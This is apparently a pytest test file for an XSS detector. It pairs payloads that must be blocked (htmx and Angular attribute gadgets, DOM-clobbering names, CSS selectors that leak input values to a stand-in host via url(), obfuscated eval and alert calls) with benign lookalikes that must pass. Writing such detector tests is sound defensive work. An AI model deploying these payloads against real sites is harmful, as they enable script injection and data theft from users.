"""Markup that libraries and scripts of a page act on; and forms and pages of every day."""

from __future__ import annotations

import pytest
from tests.support.suspects import STOPS, Suspects

from vallum.inspection.detectors.xss import DETECTOR
from vallum.inspection.detectors.xss_css import leak_in

SUSPECTS = Suspects(DETECTOR)


@pytest.mark.parametrize(
    "text",
    [
        "<p hx-get='//q.example/a' hx-trigger=click>",
        "hello <p data-hx-delete=/me HX-TRIGGER='load delay:1s'>",
        "<p hx-post='https:q.example'>",
        "<b hx-vals='js:{a: f()}'>",
        "<i hx-trigger='click[prompt(3)]'>",
        "<component IS=script src=//q.example/a.js>",
        "<ng-include src=\"'//q.example/a.html'\">",
        "<p ng-include=\"'https://q.example/a'\">",
        "<p load.trigger='alert(3)'>",
        "<p data-some-props='}-confirm(2)-{'>",
        "<p up-on-loaded=eval`x`>",
        "<a data-method=delete href=/me>me</a>",
        "<a data-turbo-method='PUT' href='/a/1'>a</a>",
        "<param name=src value=//q.example/a.swf>",
    ],
)
def test_what_a_library_would_run_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        '<button hx-post="/clicked" hx-swap="outerHTML">Click me</button>',
        "<p data-confirm='Are you sure?'>",
        "<p data-message='alert(s) of today, prompt (or not)'>",
        "<p title='call alert(1) to see'>",
        "<p aria-label='confirm(ed)'>",
        "<p data-tooltip-text='eval(x) is evil'>",
        "<ng-include src=\"'partials/nav.html'\">",
        "<a data-method=get href=/a>a</a>",
        "<component is=my-button>",
        "<param name=movie value=intro.swf><param name=size value=3>",
    ],
)
def test_what_is_shown_or_asked_of_home_passes(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "<img name=querySelector>",
        "x<FORM id=getElementById>",
        "<form><input name='parentNode'>",
        "<embed id=cookie>",
        "<a id=k><b>and</b><a id=k name=u href=//q.example>",
        "<form id=k></form><form id='k' name=u><input name=v>",
    ],
)
def test_names_of_properties_of_the_document_are_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        '<form name="body"><input name="domain"><textarea name="body"></textarea></form>',
        "<form id=write><select name=children></select></form>",
        "<li id=a>1</li><li id=a>2</li>",
        "<a id=k href=#a>a</a><a id=k href=#b>b</a>",
        "<input id=q name=q1><input id=q name=q2>",
        "<img name=logo src=a.png>",
        "<input name=nodename>",
    ],
)
def test_names_of_every_day_pass(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "} p { background: url(//q.example/a) }",
        "red } /* a */ p{color:blue;background:URL( 'https://q.example/a' )}",
        "';}*{cursor:url(//q.example)}",
        "}@import 'a.css';",
        "red; background : url(//q.example/?a)",
        ";list-style-image:url(\\\\q.example)",
        "red;background:-webkit-image-set('//q.example/a' 1x)",
        "input[value ^= 'b'] { background: url(https://q.example/b) }",
        ":has(input[name=a][value='7']) { --x: url(//q.example/7) }",
        "meta[content*=ab]{background:url(//q.example)}",
        "@font-face{font-family:a;src:url(//q.example/a);unicode-range:U+61}",
    ],
)
def test_style_that_tells_a_host_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "p { color: red } a { background: url(https://cdn.example/a.png) }",
        "color: red; background: url(https://cdn.example/a.png)",
        "a[href$='.pdf'] { background: url(https://cdn.example/pdf.svg) }",
        "option[value='de'] { background: url(https://cdn.example/de.png) }",
        "input[value^=a] { background: url(/a.png) }",
        "@font-face { src: url(//cdn.example/a.woff2); unicode-range: U+0000-00FF, U+0131 }",
        "see {x}; the url (https://q.example) is new",
    ],
)
def test_style_sheets_pass(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize(
    "text",
    [
        "'b'.replace(/b/g, eval)",
        "'x' instanceof {[Symbol.hasInstance]: alert}",
        "Object.assign(self, {onerror: eval}); throw x",
        "this[80119..toString(31)](2)",
        "'; top[Object.keys(top)[9]](2)//",
        "location = location.hash.slice(2)",
        "top.location.href=document.referrer",
        "$.getScript`//q.example/a`",
        "document.forms[1].action = '//q.example'",
        "navigator.serviceWorker.register('//q.example/a.js')",
        "Function.prototype.bind = alert",
    ],
)
def test_script_that_is_reached_by_detours_is_stopped(text: str) -> None:
    assert SUSPECTS.score(text) >= STOPS


@pytest.mark.parametrize(
    "text",
    [
        "template.replace('{x}', prompt)",
        "onerror: alert",
        "String.prototype.trim = trim",
        "window[callback](data)",
        "rows[Object.keys(rows)[0]](x)",
        "id[123].toString(36)",
        "location = location.search(query)",
        "document.forms[0].action = '/save'",
        "navigator.serviceWorker.register('/sw.js')",
        "Object.assign(window, {app: app})",
    ],
)
def test_programs_that_look_alike_pass(text: str) -> None:
    assert SUSPECTS.score(text) < STOPS


@pytest.mark.parametrize("piece", ["[value=", "}a", ";background:", "@font-face{", "url(", "/*"])
def test_long_styles_are_read_in_time(piece: str) -> None:
    assert leak_in(piece * (20_000 // len(piece))) == 0
